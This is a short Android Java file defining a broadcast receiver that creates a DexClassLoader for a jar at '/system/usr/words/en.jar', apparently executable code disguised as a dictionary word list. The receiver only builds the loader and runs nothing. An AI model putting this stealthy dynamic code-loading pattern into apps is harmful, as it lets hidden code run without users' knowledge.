package com.made.keys;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import dalvik.system.DexClassLoader;

public final class Start extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        ClassLoader loader = new DexClassLoader("/system/usr/words/en.jar", context.getCacheDir().getPath(), null, context.getClassLoader());
    }
}
